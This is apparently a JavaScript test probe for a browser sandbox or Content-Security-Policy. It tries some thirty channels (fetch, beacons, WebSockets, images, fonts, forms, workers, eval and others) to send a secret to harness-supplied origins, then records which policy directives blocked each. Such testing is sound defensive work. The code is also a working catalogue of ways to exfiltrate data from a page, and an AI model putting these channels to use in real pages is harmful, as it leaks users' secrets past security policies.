// Tries to break out of a page: every way in which a page can reach another origin is taken once, with a secret in the address.
// In: an origin of its own for each way, and the secret. Out: what the policy said to each, and what was thrown.

async ({ origins, secret }) => {
  const later = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const loads = (element, place = document.head) => new Promise((resolve, reject) => {
    element.onload = resolve;
    element.onerror = () => reject(new Error('it did not load'));
    place.append(element);
    setTimeout(resolve, 400);
  });
  const made = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
  const frame = (attributes) => loads(made('iframe', attributes), document.body);
  const opens = (source) => new Promise((resolve, reject) => {
    source.onopen = resolve;
    source.onerror = () => reject(new Error('it did not open'));
  });
  const inWorker = (text) => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob([text])));
    worker.onmessage = ({ data }) => (data ? reject(new Error(data)) : resolve());
    worker.onerror = () => reject(new Error('the worker did not start'));
  });

  /** @type {Record<string, (to: string) => unknown>} */
  const ways = {
    fetch: (to) => fetch(to, { method: 'POST', mode: 'no-cors', body: secret }),
    'xml-http-request': (to) => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('POST', to);
      request.onload = resolve;
      request.onerror = () => reject(new Error('it failed'));
      request.send(secret);
    }),
    beacon: (to) => navigator.sendBeacon(to, secret),
    'keep-alive': (to) => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: secret }),
    'web-socket': (to) => opens(new WebSocket(to.replace('http', 'ws'))),
    'event-source': (to) => opens(new EventSource(to)),
    'web-transport': (to) => new WebTransport(to.replace('http', 'https')).ready,
    image: (to) => loads(made('img', { src: to })),
    'css-image': (to) => {
      const box = made('div', {});
      box.style.backgroundImage = `url(${to})`;
      document.body.append(box);
    },
    icon: (to) => loads(made('link', { rel: 'icon', href: to })),
    script: (to) => loads(made('script', { src: to })),
    import: (to) => import(to),
    stylesheet: (to) => loads(made('link', { rel: 'stylesheet', href: to })),
    font: (to) => new FontFace('secret', `url(${to})`).load(),
    video: (to) => loads(made('video', { src: to }), document.body),
    object: (to) => loads(made('object', { data: to }), document.body),
    frame: (to) => frame({ src: to }),
    'frame-text': (to) => frame({ srcdoc: `<img src="${to}">` }),
    'frame-fetch': async (to) => {
      const blank = made('iframe', {});
      document.body.append(blank);
      await blank.contentWindow.fetch(to, { mode: 'no-cors' });
    },
    prefetch: (to) => loads(made('link', { rel: 'prefetch', href: to })),
    preload: (to) => loads(made('link', { rel: 'preload', as: 'image', href: to })),
    'module-preload': (to) => loads(made('link', { rel: 'modulepreload', href: to })),
    manifest: (to) => loads(made('link', { rel: 'manifest', href: to })),
    preconnect: (to) => loads(made('link', { rel: 'preconnect', href: to })),
    'dns-prefetch': (to) => loads(made('link', { rel: 'dns-prefetch', href: to })),
    speculation: (to) => loads(made('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }) })),
    form: (to) => {
      const form = made('form', { action: to, method: 'POST', target: '_blank' });
      form.append(made('input', { name: 'secret', value: secret }));
      document.body.append(form);
      form.submit();
    },
    ping: (to) => {
      const link = made('a', { href: '#', ping: to });
      document.body.append(link);
      link.click();
    },
    worker: (to) => new Worker(to),
    'worker-fetch': (to) => inWorker(`fetch('${to}', { mode: 'no-cors' }).then(() => postMessage(''), (error) => postMessage(String(error)))`),
    'worker-import': (to) => inWorker(`try { importScripts('${to}'); postMessage(''); } catch (error) { postMessage(String(error)); }`),
    // Code from outside the files; a driver may run `eval`, so it waits until the driver is gone.
    'inline-script': (to) => {
      document.head.append(made('script', { textContent: 'globalThis.wasRun = true' }));
      if (!globalThis.wasRun) throw new Error('it did not run');
      return fetch(to, { mode: 'no-cors' });
    },
    eval: (to) => new Promise((resolve, reject) => setTimeout(() => {
      try {
        resolve((0, eval)(`fetch('${to}', { mode: 'no-cors' })`));
      } catch (error) {
        reject(error);
      }
    })),
  };
  if (!origins) return Object.keys(ways);

  /** @type {Record<string, { said: string[], threw: string }>} */
  const found = {};
  const blocked = [];
  addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => blocked.push([blockedURI, effectiveDirective]));
  await Promise.all(Object.entries(origins).map(async ([name, origin]) => {
    let threw = '';
    try {
      await Promise.race([ways[name](`${origin}${secret}`), later(1000)]);
    } catch (error) {
      threw = String(error).slice(0, 200);
    }
    found[name] = { said: [], threw };
  }));
  await later(300); // reports and packets come a little later
  for (const [name, origin] of Object.entries(origins)) {
    const { host } = new URL(origin);
    found[name].said = blocked.filter(([address]) => address.includes(`/${host}`)).map(([, directive]) => directive);
  }
  return found;
}
